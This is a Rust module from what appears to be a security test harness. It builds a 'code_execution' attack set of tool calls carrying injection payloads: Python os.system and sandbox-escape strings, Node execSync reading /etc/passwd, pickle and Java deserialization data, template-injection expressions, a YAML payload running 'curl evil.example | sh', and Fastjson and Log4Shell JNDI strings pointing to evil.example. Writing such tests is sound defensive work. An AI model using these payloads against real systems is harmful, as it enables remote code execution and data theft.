//! Well-meant tools that would evaluate what they are given.

use serde_json::json;

use super::attack::{Attack, Poison, Reply, Tool, fine};

pub(crate) fn attack() -> Attack {
    Attack::new(
        "code_execution",
        "code in arguments: eval, pickle, templates, YAML, JSON",
        vec![
            Tool::harmless("evaluate_expression", "Works out an expression.", "expression").attacked(
                "expression",
                &[
                    "__import__('os').system('id #{mark}')",
                    "().__class__.__bases__[0].__subclasses__()[132].__init__.__globals__['popen']('{mark}').read()",
                    "require('child_process').execSync('cat /etc/passwd # {mark}')",
                ],
            ),
            Tool::harmless("deserialize_object", "Reads an object.", "data").attacked(
                "data",
                &["cos\nsystem\n(S'echo {mark}; id'\ntR.", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC {mark}"],
            ),
            Tool::harmless("render_markdown", "Renders a page.", "template").attacked(
                "template",
                &[
                    "{{ config.__class__.__init__.__globals__['os'].popen('id {mark}').read() }}",
                    "${T(java.lang.Runtime).getRuntime().exec('{mark}')}",
                ],
            ),
            Tool::harmless("load_yaml_config", "Reads settings.", "yaml")
                .attacked("yaml", &["!!python/object/apply:os.system ['curl evil.example/{mark} | sh']"]),
            // In a key, three levels down.
            Tool::harmless("merge_settings", "Merges settings.", "")
                .with("inputSchema", json!({"type": "object"}))
                .called_with(json!({"settings": [{"a": {"__import__('os').system('id # {mark}')": 1}}]}))
                .replies(Poison::Arguments, Reply::Result(fine())),
            Tool::harmless("process_json", "Works on JSON.", "json").attacked(
                "json",
                &[
                    r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/{mark}","autoCommit":true}"#,
                    "{\"user\":\"${jndi:ldap://evil.example/{mark}}\"}",
                ],
            ),
        ],
    )
}
